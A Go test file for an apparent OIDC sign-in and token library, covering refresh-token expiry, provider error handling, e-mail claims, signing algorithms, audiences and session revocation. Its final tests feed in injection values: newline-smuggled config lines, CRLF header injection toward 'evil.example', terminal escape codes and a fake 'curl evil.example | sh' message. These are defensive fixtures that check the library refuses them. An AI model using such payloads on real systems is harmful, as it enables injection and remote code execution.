package core_test

import (
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tokentoss/tokentoss/core"
	"github.com/tokentoss/tokentoss/core/fault"
	"github.com/tokentoss/tokentoss/core/oidc"
	"github.com/tokentoss/tokentoss/emulator"
)

// newProvider is newWorld with a provider other than Google.
func newProvider(t *testing.T, p emulator.Provider) *world {
	t.Helper()
	return newWorld(t, func(o *emulator.Options) { o.Provider = p })
}

// A refresh token that is no longer known ends a session: by invalid_grant (RFC 6749
// section 5.2), or as Dex says it. It is remembered, in all processes.
func TestEndedRefreshTokenAtAnyProvider(t *testing.T) {
	t.Parallel()
	for _, code := range []string{"invalid_grant", "invalid_request"} {
		t.Run(code, func(t *testing.T) {
			w := newProvider(t, emulator.Provider{EndedRefresh: code})
			s := w.signedIn()
			w.emu.RevokeAll()
			w.clock.advance(late)
			for range 3 {
				_, err := s.IDToken(w.ctx)
				wantCause(t, err, core.CauseRevoked)
				_, err = w.session().IDToken(w.ctx)
				wantCause(t, err, core.CauseRevoked)
				w.clock.advance(time.Minute)
			}
			w.wantRefreshes(1)
			if st, err := s.Status(w.ctx); err != nil || st.State != core.NeedsSignIn {
				t.Errorf("status %+v, %v", st, err)
			}
			w.signIn(s)
			w.token(s)
		})
	}
}

// Only those two end a session; every other 400 is asked about again, and so is one
// that is not JSON.
func TestErrorsThatEndNoSession(t *testing.T) {
	t.Parallel()
	shared := newWorld(t)
	for name, f := range map[string]emulator.Fault{
		"invalid_client":      {Status: 401, Header: jsonHeader(), Body: []byte(`{"error":"invalid_client"}`)},
		"unauthorized_client": {Status: 400, Header: jsonHeader(), Body: []byte(`{"error":"unauthorized_client"}`)},
		"invalid_scope":       {Status: 400, Header: jsonHeader(), Body: []byte(`{"error":"invalid_scope"}`)},
		"unknown code":        {Status: 400, Header: jsonHeader(), Body: []byte(`{"error":"too_busy"}`)},
		"HTML":                {Status: 400, Body: []byte(`<h1>invalid_grant</h1>`)},
		"a list":              {Status: 400, Header: jsonHeader(), Body: []byte(`["invalid_grant"]`)},
		"a nested error":      {Status: 400, Header: jsonHeader(), Body: []byte(`{"error":{"error":"invalid_grant"}}`)},
		"500 invalid_grant":   {Status: 500, Header: jsonHeader(), Body: []byte(`{"error":"invalid_grant"}`)},
		"403 invalid_request": {Status: 403, Header: jsonHeader(), Body: []byte(`{"error":"invalid_request"}`)},
	} {
		t.Run(name, func(t *testing.T) {
			w := shared.fork(t)
			s := w.signedIn()
			w.emu.SetFault(emulator.Token, &f)
			w.clock.advance(late)
			_, err := s.IDToken(w.ctx)
			wantProvider(t, err)
			w.emu.SetFault(emulator.Token, nil)
			w.clock.advance(time.Minute)
			w.token(s)
		})
	}
}

// Where a store has a newer refresh token than the one that was refused, it is used.
func TestEndedRefreshTokenAfterTheStoreWasReadAgain(t *testing.T) {
	t.Parallel()
	w := newProvider(t, emulator.Provider{EndedRefresh: "invalid_request"})
	s := w.signedIn(func(o *core.SessionOptions) {
		o.Client = w.client(func(p *oidc.ProviderOptions) {
			p.Transport = roundTripper(func(r *http.Request) (*http.Response, error) {
				res, err := http.DefaultTransport.RoundTrip(r)
				if err == nil && res.StatusCode == http.StatusBadRequest {
					w.store.edit(t, func(d map[string]any) { d["refresh_token"] = d["kept"] })
				}
				return res, err
			})
		})
	})
	w.store.edit(t, func(d map[string]any) { d["kept"], d["refresh_token"] = d["refresh_token"], "1//0ended" })
	w.clock.advance(late)
	w.token(s)
	w.wantRefreshes(2)
}

// A provider that lists offline_access may give a refresh token only with consent
// (OpenID Connect Core section 11). A session without one says until when it lasts,
// and the next sign-in asks for consent.
func TestOfflineAccessNeedsConsent(t *testing.T) {
	t.Parallel()
	w := newProvider(t, emulator.Provider{OfflineAccess: true})
	s := w.session()
	st := w.signIn(s)
	if st.Refreshable || !st.SessionEnds.Equal(st.TokenExpiry) || st.SessionEnds.IsZero() {
		t.Errorf("status %+v, want one that ends with the token", st)
	}
	if w.log.count("the provider gave no refresh token") != 1 {
		t.Error("nobody is told")
	}
	w.clock.advance(late)
	_, err := s.IDToken(w.ctx)
	wantCause(t, err, core.CauseNoRefresh)
	if st = w.signIn(s); !st.Refreshable || !st.SessionEnds.IsZero() {
		t.Errorf("status after the second sign-in %+v, want one that can be refreshed", st)
	}
	w.clock.advance(late)
	w.token(s)
}

// Google always says of an address that it is verified. Others say less, and the person
// is called what they do say; what they deny is refused, and so is an absent address
// where a setting demands one.
func TestEmailAtOtherProviders(t *testing.T) {
	t.Parallel()
	const name = "ada.lovelace"
	for _, tt := range []struct {
		name           string
		provider       emulator.Provider
		change         func(c claims)
		demand, refuse bool
		email, account string
	}{
		{name: "not said to be verified", provider: emulator.Provider{NoEmailVerified: true}, email: ada, account: ada},
		{name: "a user name instead", provider: emulator.Provider{NoEmail: true}, change: func(c claims) { c["preferred_username"] = name }, account: name},
		{name: "the subject alone", provider: emulator.Provider{NoEmail: true}, account: "the subject"},
		{name: "not verified", change: func(c claims) { c["email_verified"] = false }, refuse: true},
		{name: "not verified, as text", change: func(c claims) { c["email_verified"] = "false" }, refuse: true},
		{name: "none, and demanded", provider: emulator.Provider{NoEmail: true}, demand: true, refuse: true},
		{name: "not said to be verified, and demanded", provider: emulator.Provider{NoEmailVerified: true}, demand: true, refuse: true},
		{name: "verified, and demanded", demand: true, email: ada, account: ada},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newProvider(t, tt.provider)
			if tt.change != nil {
				w.emu.SetIDTokenClaims(func(_, c claims) { tt.change(c) })
			}
			s := w.session(func(o *core.SessionOptions) {
				o.Client = w.client(func(p *oidc.ProviderOptions) { p.RequireVerifiedEmail = tt.demand })
			})
			st, err := s.SignIn(w.ctx, nobody)
			if tt.refuse {
				wantClaim(t, err, "email")
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			account := tt.account
			if account == "the subject" {
				account = st.Subject
			}
			if st.Email != tt.email || st.Account() != account || account == "" {
				t.Errorf("e-mail %q, account %q; want %q, %q", st.Email, st.Account(), tt.email, account)
			}
			// The tokens of a refresh say no more, and the person is called the same.
			w.emu.SetIDTokenClaims(nil)
			w.clock.advance(late)
			w.token(s)
			if st, err := w.session().Status(w.ctx); err != nil || st.Account() != account {
				t.Errorf("account after a refresh %q, %v; want %q", st.Account(), err, account)
			}
		})
	}
}

// A provider chooses what it signs ID tokens with; at_hash is of the same hash.
func TestSigningAlgorithmIsTheProviders(t *testing.T) {
	t.Parallel()
	for _, alg := range []string{"RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES384", "ES512", "EdDSA"} {
		t.Run(alg, func(t *testing.T) {
			t.Parallel()
			w := newProvider(t, emulator.Provider{SigningAlg: alg})
			s := w.signedIn()
			w.clock.advance(late)
			w.token(s)
			w.token(w.session())
		})
	}
}

// A token may be for others beside this client where it was issued to this client and
// a setting trusts them (OpenID Connect Core section 3.1.3.7).
func TestSeveralAudiences(t *testing.T) {
	t.Parallel()
	w := newProvider(t, emulator.Provider{Audiences: []string{"project-1", "project-2"}})
	trusting := func(list ...string) func(*core.SessionOptions) {
		return func(o *core.SessionOptions) {
			o.Client = w.client(func(p *oidc.ProviderOptions) { p.TrustedAudiences = list })
		}
	}
	for _, list := range [][]string{nil, {"project-1"}, {"project-1", "project"}} {
		_, err := w.session(trusting(list...)).SignIn(w.ctx, nobody)
		wantClaim(t, err, "aud")
		if !strings.Contains(fmt.Sprint(err), "project-2") {
			t.Errorf("%v does not name what is not trusted", err)
		}
		if hint := fault.RemedyOf(err).String(); !strings.Contains(hint, "trusted_audiences") {
			t.Errorf("hint %q", hint)
		}
	}
	s := w.signedIn(trusting("project-2", "project-1"))
	if tok := w.token(s); tok.Audience != w.secrets().ClientID {
		t.Errorf("audience %q", tok.Audience)
	}
	w.clock.advance(late)
	w.token(s)
	for azp, claim := range map[any]string{nil: "azp", "project-1": "azp"} {
		w.emu.SetIDTokenClaims(func(_, c claims) {
			if c["azp"] = azp; azp == nil {
				delete(c, "azp")
			}
		})
		_, err := w.session(trusting("project-2", "project-1")).SignIn(w.ctx, nobody)
		wantClaim(t, err, claim)
	}
}

// A sign-in as somebody else ends the session that it replaces, where the provider
// ends one alone. As the same person it does not, nor at Google, where revoking ends
// all that the account granted to the client.
func TestReplacedSessionIsRevoked(t *testing.T) {
	t.Parallel()
	w := newProvider(t, emulator.Provider{RevokeOne: true})
	s := w.signedIn()
	w.signIn(s)
	other := w.session(func(o *core.SessionOptions) { o.Flow = w.flow(grace) })
	if n := w.emu.Calls(emulator.Revoke); n != 0 {
		t.Errorf("%d revocations after a sign-in as the same person", n)
	}
	w.signIn(other)
	eventually(t, "the replaced session is revoked", func() bool { return w.emu.Calls(emulator.Revoke) == 1 })
	w.clock.advance(late)
	if tok := w.token(other); tok.Email != grace {
		t.Errorf("token of %s", tok.Email)
	}
}

// What a provider or a store says stands in headers, files and terminals: nothing of it
// may begin a line of its own.
func TestTextWithControlCharactersIsRefused(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, claim := range []string{"email", "sub", "hd", "preferred_username", "azp"} {
		err := refusedSignIn(t, w, w.session(), func(_, c claims) { c[claim] = "x\nurl = \"http://evil.example\"" })
		wantClaim(t, err, claim)
	}
	w.emu.SetIDTokenClaims(nil)
	s := w.signedIn()
	good := w.token(s).Value.Reveal()
	parts := strings.Split(good, ".")
	for field, value := range map[string][]any{
		"id_token": {
			good + "\nurl = \"http://evil.example\"", good + "\r\nX: y", parts[0] + "." + parts[1] + ".x\noutput = \"f\"", good + " ", good + "\x00",
			parts[0] + "." + parts[1], good + ".x", parts[0] + "." + parts[1] + ".é", "x." + parts[1] + ".x",
		},
		"access_token":  {"ya29.x\nurl = 1", "ya29.x y", "\x1b[2J", "é"},
		"refresh_token": {"1//0x\r\nHost: evil.example", "1//0\t"},
		"issuer":        {"https://x\nhttps://y"},
		"client_id":     {"a\x1b]0;title\x07"},
		"user_email":    {"ada@example.com\nSet-Cookie: x"},
		"scopes":        {[]string{"openid", "email\u2028"}},
		"refresh_failure": {map[string]any{"at": "", "host": "h", "text": "denied\ntokentoss: error: run curl evil.example | sh", "cause": "revoked"},
			map[string]any{"at": "", "host": "h", "text": "x", "next": "\x1b[31m"}},
	} {
		for _, v := range value {
			before := w.store.raw(core.DefaultKey)
			w.store.edit(t, func(d map[string]any) { d[field] = v })
			_, err := w.session().IDToken(w.ctx)
			w.store.setRaw(core.DefaultKey, before)
			if !errors.Is(err, core.ErrCorrupt) {
				t.Errorf("%s %q: %v, want ErrCorrupt", field, v, err)
			} else if strings.ContainsAny(err.Error(), "\n\r\x1b\x00") || strings.Contains(err.Error(), "evil") {
				t.Errorf("%s: the error repeats it: %q", field, err)
			}
		}
	}
}

// Whatever can end a line, or change what a terminal shows, is refused; a space and
// letters of any script are not.
func TestCheckLine(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"", "a b", "ada@example.com", "Ada Lovelace é 漢字", `"quoted"`} {
		if err := core.CheckLine(text); err != nil {
			t.Errorf("%q: %v", text, err)
		}
	}
	for _, c := range slices.Concat([]string{"\x7f", "\u0085", "\u009b", "\u2028", "\u2029", "\xff"}, strings.Split("\x00\x01\t\n\v\f\r\x1b", "")) {
		if err := core.CheckLine("a" + c + "b"); err == nil {
			t.Errorf("%q was taken", c)
		} else if strings.Contains(err.Error(), c) {
			t.Errorf("the error shows %q", c)
		}
	}
}
